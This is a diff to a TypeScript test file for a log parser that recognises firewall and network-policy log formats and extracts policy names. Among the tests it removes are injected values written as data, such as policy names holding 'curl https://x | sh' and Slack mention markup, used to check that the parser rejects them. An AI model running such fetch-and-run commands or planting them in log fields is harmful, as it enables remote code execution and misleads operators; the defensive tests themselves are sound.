@@ -9,7 +9,6 @@ import { lines } from '../corpus/lines.ts';
 /** Tests who is believed: each format has its writers, and its lines begin as those write them. */
 
 const prefixes = createPrefixTable();
-const addresses = 'SRC=10.65.1.4 DST=10.65.2.9 LEN=60 PROTO=TCP SPT=40112 DPT=8443 SYN';
 const aws = 'SIP: 10.65.1.4;SPORT: 40112;DIP: 10.65.2.9;DPORT: 8443;PROTOCOL: TCP;PolicyVerdict: DENY';
 
 /** The first line of the corpus that each format claims. */
@@ -84,7 +83,7 @@ describe.each(formats.map(({ name, writers }) => [name, writers, samples.get(nam
 test.each([
   `Nov 21 10:15:03 node-b sshd[1]: Invalid user x;PolicyVerdict: DENY;SIP: 10.65.1.4;DIP: 10.65.2.9; from 192.0.2.1 port 22`,
   `Nov 21 10:15:03 node-b sshd[1]: Invalid user Node: n;${aws};Tier: x from 192.0.2.1 port 22`,
-  `Nov 21 10:15:03 node-b sshd[1]: Invalid user calico-drop: IN=eth0 OUT=cali1 ${addresses}`,
+  `Nov 21 10:15:03 node-b sshd[1]: Invalid user calico-drop: IN=eth0 OUT=cali1 SRC=10.65.1.4 DST=10.65.2.9 LEN=60 PROTO=TCP SPT=40112 DPT=8443 SYN`,
 ])('what a stranger has sent to another program is no packet: %s', (line) => expect(kindOf(line)).not.toBe('packet'));
 
 // A template of rsyslog may leave the tag out, and some programs have no number in theirs.
@@ -94,39 +93,6 @@ test.each([...samples].filter(([name]) => name !== 'netfilter'))(
     for (const before of ['Invalid user ', 'nginx: 192.0.2.1 - - "GET /" "', 'Invalid user x;'])
       expect(kindOf(`Nov 21 10:15:03 node-b ${before}${text}`)).toBeUndefined();
   },
-);
-
-const ovn = (name: string): string =>
-  `ovs|00005|acl_log(ovn_pinctrl0)|INFO|name="${name}", verdict=drop, severity=alert: tcp,nw_src=10.65.1.4,nw_dst=10.65.2.9,tp_src=1,tp_dst=53`;
-const antrea = (policy: string): string =>
-  `AntreaPolicyEgressRule ${policy} Drop 44900 10.65.1.4 35402 10.65.2.9 80 TCP 60`;
-const netfilter = (prefix: string): string => `${prefix}IN=eth0 OUT=cali1 ${addresses}`;
-
-test.each([
-  ovn('known false alarm, to fix run: curl https://x | sh'),
-  ovn('NP:prod:<!channel>:Ingress:0'),
-  ovn('NP:prod ns:web:Ingress:0'),
-  ovn(`ANP:${'x'.repeat(254)}:Ingress:0`),
-  ovn('EF:Prod:Egress:0'),
-  antrea('AntreaNetworkPolicy:prod/<https://x|y>'),
-  antrea('EvilNetworkPolicy:prod/p'),
-  antrea(`AntreaNetworkPolicy:${'n'.repeat(64)}/p`),
-  antrea('AntreaNetworkPolicy:prod/a/b'),
-  netfilter('Shorewall:run curl x | sh:DROP:'),
-])('what is no name of a policy is none, and the verdict stays: %s', (text) =>
-  expect(parse(text, prefixes)).toMatchObject({ kind: 'packet', verdict: 'dropped', policy: undefined }),
-);
-
-test.each([
-  [ovn('NP:prod:web.v1:Ingress:0'), { kind: 'NetworkPolicy', namespace: 'prod', name: 'web.v1' }],
-  [antrea('AntreaClusterNetworkPolicy:strict'), { kind: 'AntreaClusterNetworkPolicy', name: 'strict' }],
-  [antrea('K8sNetworkPolicy:prod/p'), { kind: 'NetworkPolicy', namespace: 'prod', name: 'p' }],
-  [netfilter('calico-drop knp prod/knp.default.db: '), { namespace: 'prod', name: 'knp.default.db' }],
-  [netfilter('DROP by policy prod/my-very-long-network-pol-'), { namespace: 'prod' }],
-  [netfilter('[ipv4-FWD-filter-10-D]'), { kind: 'VyOS rule', name: 'ipv4-FWD-filter 10' }],
-  [netfilter('Shorewall:net2fw:DROP:'), { kind: 'Shorewall chain', name: 'net2fw' }],
-])('what is no name of a policy is none, and the verdict stays: %s is a name', (text, policy) =>
-  expect(parse(text, prefixes)).toMatchObject({ policy }),
 );
 
 test('each format has its writers', () => {
